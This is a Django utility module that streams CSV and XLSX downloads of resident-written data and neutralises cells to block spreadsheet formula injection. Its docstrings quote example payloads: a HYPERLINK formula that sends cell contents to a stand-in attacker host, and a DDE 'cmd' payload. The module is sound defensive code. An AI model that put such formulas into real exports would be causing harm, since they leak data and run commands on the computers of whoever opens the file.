"""CSV and XLSX downloads for staff tables, safe to open in spreadsheet programs.

Exported cells hold text written by residents. Spreadsheet programs evaluate a cell
that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a contribution titled
``=HYPERLINK("https://evil.example?"&A1)`` would leak data or run commands on a staff
member's computer (CSV injection, https://owasp.org/www-community/attacks/CSV_Injection).
Every text cell therefore passes through :func:`neutralise`; numbers and dates are
left typed, because they come from our code, not from residents.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from urllib.parse import quote

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

__all__ = ["csv_response", "neutralise", "xlsx_response"]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# OWASP's list: cells must not begin with = + - @, nor with tab or carriage return.
FORMULA_STARTS = ("=", "+", "-", "@")
WHITESPACE_STARTS = ("\t", "\r")

# Characters XML 1.0 (and so XLSX) cannot hold: C0 controls other than tab, line feed
# and carriage return, lone surrogates and the non-characters U+FFFE/U+FFFF. openpyxl
# raises IllegalCharacterError for the controls; the others give a file Excel repairs.
_ILLEGAL_CHARACTERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]"
)
_LINE_BREAKS = re.compile("\r\n?")

# Excel's limits: a cell holds at most 32,767 characters; a sheet title at most 31
# UTF-16 code units, none of []:*?/\, not starting or ending with an apostrophe.
XLSX_CELL_MAX_LENGTH = 32_767
_SHEET_TITLE_MAX_UNITS = 31
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

# Path separators, quotes and what Windows forbids in file names.
_FILENAME_FORBIDDEN = re.compile(r'[/\\"\'<>:|?*;,%]+')

# The CSV is streamed in chunks of this many rows: few enough to keep memory flat,
# enough to avoid one tiny write per row.
CSV_ROWS_PER_CHUNK = 500

# Types written as they are; anything else (lazy translations, UUIDs, model
# instances) is turned into text first, so it cannot slip past neutralise().
_NUMBERS = (bool, int, float, Decimal)
_XLSX_NATIVE = (*_NUMBERS, datetime.date, datetime.time, datetime.timedelta)


def neutralise(value: object) -> object:
    """Make a text cell safe for spreadsheets; return every other value unchanged.

    A string that starts with tab or carriage return, or whose first character
    *after any leading whitespace* is one of ``= + - @``, gets a single quote in
    front, so Excel, LibreOffice and Google Sheets show it as text. Leading whitespace
    is looked through because OWASP lists tab and carriage return for exactly that
    reason, and spaces behave the same when an import trims them (LibreOffice's "Trim
    spaces", Excel's "Text to columns"). The rule looks at the type, not at the
    content: the *string* ``"-5"`` is quoted too, since telling harmless numbers from
    payloads like ``-5+3+cmd|' /C calc'!A0`` by content is where filters get bypassed.
    Pass numbers as ``int``/``float``/``Decimal`` and they stay numbers.

    Characters XLSX cannot store (NUL and other controls) are dropped; carriage
    returns become line feeds, which keeps the line break and is what an XML reader
    would turn them into anyway.
    """
    if not isinstance(value, str):
        return value
    text = _ILLEGAL_CHARACTERS.sub("", _LINE_BREAKS.sub("\n", value))
    if value.startswith(WHITESPACE_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_response(
    filename: str, header: Sequence[object], rows: Iterable[Sequence[object]]
) -> StreamingHttpResponse:
    """Stream ``rows`` as a UTF-8 CSV download that Excel opens correctly.

    ``rows`` is consumed lazily, so a generator over ``QuerySet.iterator()`` exports
    100,000 rows without holding them in memory. The byte order mark makes Excel read
    UTF-8 (umlauts, Arabic) instead of the local code page. Every field is quoted, so
    a comma- or semicolon-separated value inside a cell cannot start a new cell in a
    program that guesses another delimiter (German Excel splits on ``;``) and so dodge
    neutralise().
    """
    response = StreamingHttpResponse(
        _csv_chunks(header, rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = attachment_header(filename, suffix=".csv")
    return response


def xlsx_response(
    filename: str,
    sheet_title: str,
    header: Sequence[object],
    rows: Iterable[Sequence[object]],
    *,
    column_widths: Sequence[float | None] = (),
) -> HttpResponse:
    """Return ``rows`` as an Excel workbook with a bold, frozen header row.

    ``column_widths`` gives each column's width in characters (``None`` leaves
    one at Excel's default), so long texts do not open as a narrow column and
    short codes do not take a wide one.

    openpyxl's write-only mode streams rows to a temporary file, so only the
    compressed workbook is held in memory. Text cells are neutralised like in the CSV
    (a literal quote rather than Excel's hidden quotePrefix style, so the value stays
    safe when someone copies it or saves the sheet as CSV); numbers and dates stay
    typed so staff can sort and sum them.
    """
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title_clean(sheet_title))
    sheet.freeze_panes = "A2"
    # Write-only sheets take column widths only before the first row.
    for index, width in enumerate(column_widths, start=1):
        if width:
            sheet.column_dimensions[get_column_letter(index)].width = width
    bold = Font(bold=True)
    header_cells = []
    for value in header:
        cell = WriteOnlyCell(sheet, value=_xlsx_cell(value))
        cell.font = bold
        header_cells.append(cell)
    sheet.append(header_cells)
    for row in rows:
        sheet.append([_xlsx_cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = attachment_header(filename, suffix=".xlsx")
    return response


def attachment_header(filename: str, *, suffix: str) -> str:
    """Build ``Content-Disposition: attachment`` per RFC 6266 for any file name.

    Path separators, quotes and control characters are replaced, so the name cannot
    break out of the header or point into a folder. Non-ASCII names are sent as
    ``filename*=UTF-8''…`` (RFC 8187) with an ASCII ``filename="…"`` fallback.
    """
    name = unicodedata.normalize("NFC", filename)
    name = "".join(
        " " if unicodedata.category(char)[0] == "C" else char for char in name
    )
    name = _FILENAME_FORBIDDEN.sub("_", name).strip(" ._")[:150] or "export"
    if not name.lower().endswith(suffix):
        name += suffix
    ascii_name = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()
    ascii_name = re.sub(r"[^\x20-\x7e]+", "_", ascii_name).strip(" ._")
    if ascii_name.lower() in ("", suffix.lstrip(".")):
        ascii_name = "export" + suffix
    if ascii_name == name:
        return f'attachment; filename="{name}"'
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(name, safe='')}"


def sheet_title_clean(title: str) -> str:
    """Fit ``title`` to Excel's sheet-name rules, which openpyxl enforces by raising."""
    title = _SHEET_TITLE_FORBIDDEN.sub("_", _ILLEGAL_CHARACTERS.sub("", title))
    title = " ".join(title.split()).strip("'")
    # Excel counts UTF-16 code units, so an emoji takes two of the 31.
    while len(title.encode("utf-16-le")) > 2 * _SHEET_TITLE_MAX_UNITS:
        title = title[:-1]
    title = title.strip("' ")
    if not title or title.lower() == "history":  # "History" is reserved by Excel
        return "Export"
    return title


class _Echo:
    """A file-like object whose write() hands the line back instead of storing it."""

    def write(self, value: str) -> str:
        return value


def _csv_chunks(
    header: Sequence[object], rows: Iterable[Sequence[object]]
) -> Iterator[str]:
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    yield "\ufeff" + writer.writerow([_csv_cell(value) for value in header])
    chunk: list[str] = []
    for row in rows:
        chunk.append(writer.writerow([_csv_cell(value) for value in row]))
        if len(chunk) >= CSV_ROWS_PER_CHUNK:
            yield "".join(chunk)
            chunk = []
    if chunk:
        yield "".join(chunk)


def _csv_cell(value: object) -> object:
    if value is None or isinstance(value, _NUMBERS):
        return value
    # Dates become text here, and text is neutralised: str(timedelta(days=-1)) is
    # "-1 day, 0:00:00", which Excel would try to evaluate.
    return neutralise(str(_local(value)))


def _xlsx_cell(value: object) -> object:
    if value is None or isinstance(value, _XLSX_NATIVE):
        return _local(value)
    return neutralise(str(value))[:XLSX_CELL_MAX_LENGTH]


def _local(value: object) -> object:
    """Write aware datetimes as Berlin wall-clock time; Excel has no time zones.

    openpyxl refuses aware datetimes, and staff read times as local anyway. Converts to
    settings.TIME_ZONE (Europe/Berlin), not the request's active zone, so an export
    reads the same whoever downloads it.
    """
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value, timezone.get_default_timezone())
    return value
